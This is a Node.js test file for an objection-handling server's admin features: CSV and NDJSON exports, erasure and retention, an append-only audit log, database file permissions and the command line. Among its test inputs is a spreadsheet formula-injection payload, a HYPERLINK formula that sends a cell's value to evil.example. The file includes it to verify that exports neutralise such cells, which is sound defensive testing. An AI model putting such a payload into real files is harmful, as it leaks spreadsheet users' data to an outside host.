// The admin side's data: exports through a real CSV parser, erasure down to the bytes of
// the database file, retention, the audit log of a scripted session, the database's file
// modes, and the command line.
import assert from 'node:assert/strict';
import {spawnSync} from 'node:child_process';
import {chmodSync, readFileSync, existsSync, rmSync, statSync} from 'node:fs';
import path from 'node:path';
import {describe, test} from 'node:test';

import {admin, daysAgo, makeTokens, request, sql, startAdmin, submit} from './admin.mjs';
import {startServer, tempDir} from './server.mjs';

const tokens = makeTokens({alice: 'handler', bob: 'reader'});
const alice = tokens.secret.alice;
const bob = tokens.secret.bob;

// Python's csv module (Debian's python3), a parser that is not ours.
function parseCsv(text) {
  const run = spawnSync('python3', ['-c',
    'import csv, io, json, sys\n' +
    'rows = list(csv.reader(io.StringIO(sys.stdin.buffer.read().decode("utf-8"), newline=""), strict=True))\n' +
    'print(json.dumps(rows))'], {input: text, encoding: 'utf8'});
  assert.equal(run.status, 0, run.stderr);
  return JSON.parse(run.stdout);
}

const hostile = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  '+1 202 555 0100 is my number, call me',
  '-2+3 and more text here',
  '@SUM(A1:A9) as the beginning of a detail',
  'A "quoted" word, a comma, and\r\na new line; then ;semicolons; too',
  'Ünïcödé ✓ 日本語 and an emoji 🙂 in the details',
];

describe('admin: exports', () => {
  test('CSV round trip through a real parser, hostile cells neutralised; NDJSON the same rows', async () => {
    const server = await startAdmin(tokens);
    try {
      const receipts = await submit(server, hostile.map((details) => ({details})));
      const res = await request(server.adminUrl, '/api/export?format=csv', {token: bob});
      assert.equal(res.status, 200);
      assert.equal(res.headers['content-type'], 'text/csv; charset=utf-8; header=present');
      assert.equal(res.headers['transfer-encoding'], 'chunked', 'streamed');
      assert.match(res.headers['content-disposition'], /^attachment; filename="objections.csv"$/);
      assert.ok(res.text.endsWith('\r\n'));
      const rows = parseCsv(res.text);
      const header = rows[0];
      assert.deepEqual(header, ['receipt', 'received_at', 'status', 'deadline', 'extension_months', 'closed_at',
                                'erased_at', 'locale', 'email', 'country', 'phone', 'justification', 'details']);
      assert.equal(rows.length, hostile.length + 1);
      const byReceipt = new Map(rows.slice(1).map((r) => [r[0], Object.fromEntries(header.map((h, i) => [h, r[i]]))]));
      hostile.forEach((sent, i) => {
        const text = sent.replace(/\r\n/g, '\n');  // the validator normalises line ends
        const row = byReceipt.get(receipts[i]);
        const formula = /^[=+\-@\t\r]/.test(text);
        assert.equal(row.details, formula ? `'${text}` : text, text);
        assert.equal(row.email, 'anna@example.de');
        assert.equal(row.status, 'received');
      });
      const ndjson = await request(server.adminUrl, '/api/export?format=ndjson&country=AT', {token: bob});
      assert.equal(ndjson.headers['content-type'], 'application/x-ndjson');
      const lines = ndjson.text.trimEnd().split('\n').map((l) => JSON.parse(l));
      assert.deepEqual(lines.map((l) => l.fields.details).sort(),
                       hostile.map((t) => t.replace(/\r\n/g, '\n')).sort(), 'NDJSON keeps the values as stored');
      const none = await request(server.adminUrl, '/api/export?format=csv&country=PL', {token: bob});
      assert.equal(parseCsv(none.text).length, 1, 'only the header');
      assert.equal((await request(server.adminUrl, '/api/export?format=xlsx', {token: bob})).status, 400);
    } finally {
      await server.stop();
    }
  });

  test('an export of many rows streams in pages and holds every row once', async () => {
    const server = await startAdmin(tokens);
    try {
      const receipts = await submit(server, Array.from({length: 250}, (_, i) => ({details: `row ${i}`})));
      const res = await request(server.adminUrl, '/api/export?format=csv', {token: bob});
      const rows = parseCsv(res.text).slice(1);
      assert.equal(rows.length, 250);
      assert.deepEqual(rows.map((r) => r[0]).sort(), [...receipts].sort());
    } finally {
      await server.stop();
    }
  });
});

describe('admin: erasure and retention', () => {
  test('an erased email address is gone from the database file after checkpoint and VACUUM', async () => {
    const dir = tempDir();
    const db = path.join(dir, 'objections.db');
    const email = `erase-me-${process.pid}@example.de`;
    let server = await startAdmin(tokens, {db});
    const [receipt, kept] = await submit(server, [{email, details: 'please erase me'}, {email: 'keep@example.de'}]);
    const bytes = () => ['', '-wal', '-shm'].map((s) => existsSync(db + s) ? readFileSync(db + s).toString('latin1') : '').join('');
    assert.ok(bytes().includes(email), 'the address is in the files before');
    const res = await request(server.adminUrl, `/api/objections/${receipt}/erasure`, {method: 'POST', token: alice, body: {version: 1}});
    assert.equal(res.status, 200);
    assert.match(res.json.objection.erased_at, /^\d{4}-/);
    const tomb = (await request(server.adminUrl, `/api/objections/${receipt}`, {token: alice})).json.objection;
    assert.deepEqual(tomb.fields, {});
    assert.equal(tomb.country, null);
    assert.equal(tomb.status, 'received', 'the tombstone keeps the status and dates');
    assert.equal((await request(server.adminUrl, `/api/objections/${receipt}/erasure`, {method: 'POST', token: alice,
      body: {version: 2}})).json.error.code, 'admin.not_allowed', 'erased once');
    await server.stop();
    const compact = admin(['compact', '--db', db]);
    assert.equal(compact.status, 0, compact.stderr);
    assert.ok(!bytes().includes(email), 'the address is gone from the database, -wal and -shm');
    assert.ok(!bytes().includes('please erase me'));
    assert.ok(bytes().includes('keep@example.de'), 'the other objection is still there');
    // The receipt still answers on the public page: the tombstone stays.
    server = await startServer({db});
    assert.equal((await fetch(`${server.url}received?receipt=${receipt}`)).status, 200);
    await server.stop();
    assert.equal(sql(db, `SELECT count(*) AS n FROM objections WHERE receipt = '${kept}' AND erased_at IS NULL`)[0].n, 1);
    rmSync(dir, {recursive: true, force: true});
  });

  test('retention erases exactly the objections closed more than N days ago', async () => {
    const dir = tempDir();
    const db = path.join(dir, 'objections.db');
    let server = await startAdmin(tokens, {db});
    const r = await submit(server, Array.from({length: 6}, (_, i) => ({email: `retention${i}@example.de`})));
    for (const receipt of r.slice(0, 5)) {
      const res = await request(server.adminUrl, `/api/objections/${receipt}/status`, {method: 'POST', token: alice,
        body: {status: 'answered', reason: 'done', version: 1}});
      assert.equal(res.status, 200);
    }
    await server.stop();
    // Time passes: closed 40, 31, 30 days and one minute, 29 days ago and today; r[5] is open
    // and received 100 days ago.
    const closed = [daysAgo(40), daysAgo(31), daysAgo(30 + 1 / 1440), daysAgo(29)];
    closed.forEach((at, i) => sql(db, `UPDATE objections SET closed_at = '${at}' WHERE receipt = '${r[i]}'`));
    sql(db, `UPDATE objections SET received_at = '${daysAgo(100)}' WHERE receipt = '${r[5]}'`);
    const run = admin(['retention', '--db', db, '--days', '30']);
    assert.equal(run.status, 0, run.stderr);
    assert.deepEqual(run.stdout.trim().split('\n'), r.slice(0, 3));
    const rows = sql(db, 'SELECT receipt, fields, erased_at FROM objections ORDER BY id');
    rows.forEach((row, i) => {
      const erased = i < 3;
      assert.equal(row.erased_at !== null, erased, row.receipt);
      assert.equal(row.fields.includes('retention'), !erased, row.receipt);
    });
    // The server's option does the same at start-up: 20 days takes r[3] as well.
    server = await startAdmin(tokens, {db, args: ['--retention-days', '20']});
    const until = Date.now() + 5000;
    while (sql(db, `SELECT erased_at FROM objections WHERE receipt = '${r[3]}'`)[0].erased_at === null) {
      assert.ok(Date.now() < until, 'retention at start-up');
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    await server.stop();
    assert.deepEqual(sql(db, 'SELECT receipt FROM objections WHERE erased_at IS NULL ORDER BY id').map((x) => x.receipt),
                     r.slice(4));
    assert.match(server.stderr(), /retention: erased 1 objection/);
    const audit = sql(db, "SELECT actor, detail FROM audit_log WHERE action = 'erased' ORDER BY id");
    assert.deepEqual(audit.map((a) => a.actor), ['cli', 'cli', 'cli', 'retention']);
    rmSync(dir, {recursive: true, force: true});
  });
});

describe('admin: audit log', () => {
  test('a scripted session leaves one entry per read, export, change and erasure; the log is append-only', async () => {
    const server = await startAdmin(tokens);
    try {
      const [a, b, c] = await submit(server, [{}, {}, {}]);
      const post = (receipt, action, body) =>
        request(server.adminUrl, `/api/objections/${receipt}/${action}`, {method: 'POST', token: alice, body});
      await request(server.adminUrl, '/api/objections', {token: bob});           // no personal data: no entry
      await request(server.adminUrl, `/api/objections/${a}`, {token: bob});      // read
      await request(server.adminUrl, `/objection?receipt=${b}`, {token: bob});   // read, on the page
      await request(server.adminUrl, '/api/export?format=csv&status=received', {token: bob});
      assert.equal((await post(a, 'status', {status: 'rejected', reason: 'not ours', version: 1})).status, 200);
      assert.equal((await post(b, 'extension', {months: 1, reason: 'complex', version: 1})).status, 200);
      assert.equal((await post(c, 'erasure', {version: 1})).status, 200);
      assert.equal((await post(c, 'status', {status: 'answered', reason: 'x', version: 1})).status, 409);  // no entry
      await request(server.adminUrl, '/api/objections/AAAA-0000-0000-0000', {token: bob});  // 404: no entry
      await request(server.adminUrl, '/api/objections', {token: 'wrong'});                 // 401: no entry
      const show = admin(['show', '--db', server.db, '--receipt', a]);
      assert.equal(show.status, 0, show.stderr);
      const res = await request(server.adminUrl, '/api/audit?format=ndjson', {token: alice});
      assert.equal(res.status, 200);
      const entries = res.text.trimEnd().split('\n').map((l) => JSON.parse(l));
      assert.deepEqual(entries.map((e) => [e.actor, e.action, e.receipt, e.detail]), [
        ['bob', 'read', a, ''],
        ['bob', 'read', b, ''],
        ['bob', 'export', null, 'format=csv status=received&order=newest'],
        ['alice', 'rejected', a, ''],
        ['alice', 'extended', b, 'months=1'],
        ['alice', 'erased', c, 'on request'],
        ['cli', 'read', a, ''],
        ['alice', 'audit_export', null, 'format=ndjson'],
      ]);
      for (const e of entries) assert.match(e.at, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
      const csv = parseCsv((await request(server.adminUrl, '/api/audit?format=csv', {token: alice})).text);
      assert.deepEqual(csv[0], ['id', 'at', 'actor', 'action', 'receipt', 'detail']);
      assert.equal(csv.length, entries.length + 2, 'and the second audit export is itself logged');
      for (const statement of ['UPDATE audit_log SET actor = \'x\'', 'DELETE FROM audit_log']) {
        const run = spawnSync('sqlite3', [server.db, statement], {encoding: 'utf8'});
        assert.notEqual(run.status, 0);
        assert.match(run.stderr, /append-only/);
      }
    } finally {
      await server.stop();
    }
  });
});

describe('admin: the database file', () => {
  test('the database, -wal and -shm are created 0600 whatever the umask', async () => {
    const old = process.umask(0);
    let server;
    try {
      server = await startServer({});
    } finally {
      process.umask(old);
    }
    await submit(server, [{}]);
    for (const suffix of ['', '-wal', '-shm']) {
      assert.equal(statSync(server.db + suffix).mode & 0o777, 0o600, suffix || 'database');
    }
    await server.stop();
  });

  test('a database open to other users gets a warning at start-up', async () => {
    const dir = tempDir();
    const db = path.join(dir, 'objections.db');
    let server = await startServer({db});
    await server.stop();
    assert.doesNotMatch(server.stderr(), /warning/);
    chmodSync(db, 0o644);
    server = await startServer({db});
    await server.stop();
    assert.match(server.stderr(), /warning: .*objections\.db is open to other users \(mode 0644\)/);
    rmSync(dir, {recursive: true, force: true});
  });

  test('a database of a newer schema is refused, not damaged', async () => {
    const dir = tempDir();
    const db = path.join(dir, 'objections.db');
    spawnSync('sqlite3', [db, 'PRAGMA user_version=99']);
    const run = admin(['list', '--db', db]);
    assert.equal(run.status, 1);
    assert.match(run.stderr, /schema version 99, newer than this veto-server knows/);
    rmSync(dir, {recursive: true, force: true});
  });
});

describe('admin: the command line', () => {
  test('list, show, export, answer, extend and erase without HTTP', async () => {
    const server = await startServer({keep: true});
    const [a, b] = await submit(server, [{country: 'DE'}, {country: 'AT'}]);
    await server.stop();
    const db = server.db;
    const lines = (run) => run.stdout.trimEnd().split('\n').map((l) => JSON.parse(l));
    assert.deepEqual(lines(admin(['list', '--db', db])).map((o) => o.receipt), [b, a]);
    assert.deepEqual(lines(admin(['list', '--db', db, '--country', 'DE'])).map((o) => o.receipt), [a]);
    assert.equal(lines(admin(['show', '--db', db, '--receipt', a]))[0].fields.country, 'DE');
    const csv = parseCsv(admin(['export', '--db', db, '--format', 'csv']).stdout);
    assert.equal(csv.length, 3);
    assert.equal(lines(admin(['answer', '--db', db, '--receipt', a, '--reason', 'done']))[0].status, 'answered');
    assert.equal(lines(admin(['extend', '--db', db, '--receipt', b, '--months', '2', '--reason', 'busy']))[0].extension_months, 2);
    assert.equal(admin(['answer', '--db', db, '--receipt', a, '--reason', 'again']).status, 1);
    assert.match(lines(admin(['erase', '--db', db, '--receipt', b]))[0].erased_at, /^\d{4}-/);
    assert.deepEqual(lines(admin(['audit', '--db', db])).map((e) => e.action),
                     ['read', 'export', 'answered', 'extended', 'erased', 'audit_export']);
    for (const bad of [['list'], ['nothing', '--db', db], ['answer', '--db', db, '--receipt', 'x', '--reason', 'r'],
                       ['list', '--db', db, '--status', 'open'], ['export', '--db', db, '--format', 'xml'],
                       ['token', 'create', '--name', 'a b', '--role', 'reader', '--tokens', path.join(server.dir, 't')]]) {
      assert.notEqual(admin(bad).status, 0, bad.join(' '));
    }
    rmSync(server.dir, {recursive: true, force: true});
  });
});
